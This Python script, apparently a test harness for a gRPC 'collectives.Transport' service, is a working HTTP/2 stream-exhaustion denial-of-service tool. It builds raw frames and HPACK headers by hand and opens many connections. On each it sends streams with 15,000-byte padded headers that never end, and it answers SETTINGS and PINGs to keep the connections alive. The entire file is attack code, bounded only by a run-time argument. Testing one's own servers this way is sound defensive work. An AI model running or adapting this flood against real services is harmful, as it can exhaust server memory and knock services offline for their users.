"""``python attack_streams.py TARGET CONNECTIONS STREAMS SECONDS``: a stranger opens calls and never ends them.

Speaks HTTP/2 over plain sockets, as no gRPC client would: on each of CONNECTIONS connections it
opens up to STREAMS calls to the Stream method, each a HEADERS frame claiming rank 1 with 15,000
bytes of padding metadata and never a body or an end, while it answers the server's SETTINGS and
PINGs so that the connections stay up. A server that bounds neither the calls per connection nor
what it keeps of refused ones holds every call's metadata. Stops by itself after SECONDS, or once
every stream is sent and SECONDS/2 more have passed; prints one ``RESULT {json}`` line (streams
sent, GOAWAYs and RST_STREAMs received). Opens nothing but client connections to TARGET.
"""

from __future__ import annotations

import json
import selectors
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x1, 0x3, 0x4, 0x6, 0x7
END_HEADERS, ACK = 0x4, 0x1
PADDING_BYTES = 15_000
BURST = 50
"""Streams sent on a connection per turn of the loop."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_integer(value: int) -> bytes:
    """HPACK's integer with a 7-bit prefix (no Huffman flag)."""
    if value < 127:
        return bytes([value])
    out, value = bytearray([127]), value - 127
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes([*out, value])


def literal(name: str, value: str) -> bytes:
    """A header field as a literal without indexing, with a literal name."""
    return b"\x00" + hpack_integer(len(name)) + name.encode() + hpack_integer(len(value)) + value.encode()


def header_block(target: str) -> bytes:
    fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/collectives.Transport/Stream"),
        (":authority", target),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("x-collectives-rank", "1"),
        ("x-collectives-size", "3"),
        ("x-pad", "p" * PADDING_BYTES),
    ]
    return b"".join(literal(name, value) for name, value in fields)


class Connection:
    def __init__(self, target: str) -> None:
        host, port = target.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)), timeout=5)
        self.sock.setblocking(False)
        self.pending = bytearray(PREFACE + frame(SETTINGS, 0, 0))
        self.received = bytearray()
        self.next_stream = 1
        self.open = True

    def read(self, counts: dict[str, int]) -> None:
        try:
            data = self.sock.recv(1 << 16)
        except BlockingIOError:
            return
        except OSError:
            self.open = False
            return
        if not data:
            self.open = False
            return
        self.received += data
        while len(self.received) >= 9:
            length = int.from_bytes(self.received[:3], "big")
            if len(self.received) < 9 + length:
                break
            kind, flags = self.received[3], self.received[4]
            payload = bytes(self.received[9 : 9 + length])
            del self.received[: 9 + length]
            if kind == SETTINGS and not flags & ACK:
                self.pending += frame(SETTINGS, ACK, 0)
            elif kind == PING and not flags & ACK:
                self.pending += frame(PING, ACK, 0, payload)
            elif kind == GOAWAY:
                counts["goaway"] += 1
            elif kind == RST_STREAM:
                counts["rst_stream"] += 1

    def write(self) -> None:
        try:
            sent = self.sock.send(self.pending)
        except BlockingIOError:
            return
        except OSError:
            self.open = False
            return
        del self.pending[:sent]


def main(target: str, connections: str, streams: str, seconds: str) -> int:
    limit, duration = int(streams), float(seconds)
    block = header_block(target)
    counts = {"streams": 0, "goaway": 0, "rst_stream": 0, "connections": 0}
    selector = selectors.DefaultSelector()
    links = []
    for _ in range(int(connections)):
        try:
            link = Connection(target)
        except OSError:
            continue
        links.append(link)
        selector.register(link.sock, selectors.EVENT_READ, link)
    counts["connections"] = len(links)
    start = time.monotonic()
    all_sent_at = None
    while time.monotonic() - start < duration:
        for key, _ in selector.select(timeout=0.01):
            key.data.read(counts)
        for link in links:
            if link.open and link.next_stream < 2 * limit and len(link.pending) < (1 << 20):
                for _ in range(BURST):
                    if link.next_stream >= 2 * limit:
                        break
                    link.pending += frame(HEADERS, END_HEADERS, link.next_stream, block)
                    link.next_stream += 2
                    counts["streams"] += 1
            if link.open and link.pending:
                link.write()
        if all_sent_at is None and all(not link.open or link.next_stream >= 2 * limit for link in links):
            all_sent_at = time.monotonic()
        if all_sent_at is not None and time.monotonic() - all_sent_at > duration / 2:
            break
    for link in links:
        link.sock.close()
    counts["seconds"] = round(time.monotonic() - start, 1)
    print("RESULT " + json.dumps(counts), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:5]))
